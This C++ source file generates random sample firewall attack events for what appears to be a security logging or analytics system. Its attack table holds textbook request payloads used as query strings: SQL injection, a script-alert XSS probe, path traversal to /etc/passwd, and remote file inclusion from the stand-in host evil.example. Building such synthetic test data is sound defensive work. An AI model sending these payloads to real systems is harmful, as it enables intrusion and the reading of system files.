#include "prod/event/sample_events.h"

#include <array>
#include <string>

#include "prod/io/distributions.h"

namespace lj {
namespace {

template <size_t N>
const char* pick(Random& random, const std::array<const char*, N>& choices) {
  return choices[uniform_below(random, N)];
}

constexpr std::array<const char*, 8> kPops = {"ams", "fra", "lhr", "mia",
                                              "nrt", "sjc", "syd", "gru"};
constexpr std::array<const char*, 6> kCountries = {"US", "DE", "IL", "BR", "CN", "RU"};
constexpr std::array<const char*, 6> kCities = {"New York",  "Berlin",   "Rehovot",
                                                "Sao Paulo", "Shanghai", "Moscow"};
constexpr std::array<const char*, 6> kUserAgents = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "Go-http-client/1.1",
};
struct Attack {
  const char* type;
  int64_t rule_id;
  const char* rule_name;
  const char* query_prefix;  // a random value follows
};
constexpr std::array<Attack, 6> kAttacks = {{
    {"SQL Injection", 0, "SQL Injection", "id=1%27%20OR%201=1--&p="},
    {"Cross Site Scripting", 1, "Cross Site Scripting", "q=<script>alert(1)</script>&s="},
    {"Illegal Resource Access", 3, "Illegal Resource Access", "file=../../etc/passwd&v="},
    {"Remote File Inclusion", 10, "Remote File Inclusion", "page=http://evil.example/x.txt?&r="},
    {"Bot Access Control", 4, "Block Malicious User", "sid="},
    {"DDoS", 8, "DDoS", "t="},
}};
constexpr std::array<const char*, 4> kActions = {"REQ_BLOCKED", "REQ_CHALLENGE_CAPTCHA",
                                                 "REQ_BLOCKED_SESSION", "REQ_PASSED"};
constexpr std::array<const char*, 6> kPaths = {
    "/wp-login.php", "/api/v2/orders/", "/index.php", "/search", "/account/", "/static/js/app."};

}  // namespace

AttackEvent make_sample_event(Random& random, uint64_t account_id, EventId id, int64_t start_ms) {
  AttackEvent e;
  e.id = id;
  e.account_id = account_id;
  e.account_name = "acme-" + std::to_string(account_id);
  e.site_id = account_id * 100 + uniform_below(random, 4);
  e.site_name = "shop" + std::to_string(e.site_id % 100) + ".example.com";
  e.pop = pick(random, kPops);
  e.start_ms = start_ms;
  e.end_ms = start_ms + static_cast<int64_t>(uniform_below(random, 2000));
  e.source_ip = std::to_string(uniform_below(random, 223) + 1) + "." +
                std::to_string(uniform_below(random, 256)) + "." +
                std::to_string(uniform_below(random, 256)) + "." +
                std::to_string(uniform_below(random, 256));
  e.source_port = static_cast<uint16_t>(1024 + uniform_below(random, 64000));
  e.server_port = chance(random, 0.8) ? 443 : 80;
  e.client_app = pick(random, kUserAgents);
  const size_t where = uniform_below(random, kCountries.size());
  e.country_code = kCountries[where];
  e.city = kCities[where];
  e.protocol = e.server_port == 443 ? "HTTPS" : "HTTP";
  const Attack& attack = kAttacks[uniform_below(random, kAttacks.size())];
  e.attack_type = attack.type;
  e.rule_id = attack.rule_id;
  e.rule_name = attack.rule_name;
  e.action = pick(random, kActions);
  e.url = e.site_name + pick(random, kPaths);
  e.method = chance(random, 0.7) ? "GET" : "POST";
  // Paths and query strings end in ids and tokens, as real ones do: they carry the entropy.
  if (e.url.back() == '/' || e.url.back() == '.')
    e.url += std::to_string(uniform_below(random, 100000));
  e.query = attack.query_prefix + std::to_string(random.next_u64() >> 24);
  if (chance(random, 0.3)) e.referrer = "https://" + e.site_name + "/";
  e.response_code = e.action == std::string("REQ_PASSED") ? 200 : 403;
  if (chance(random, 0.3)) e.headers.push_back({"X-Forwarded-For", e.source_ip});
  return e;
}

}  // namespace lj
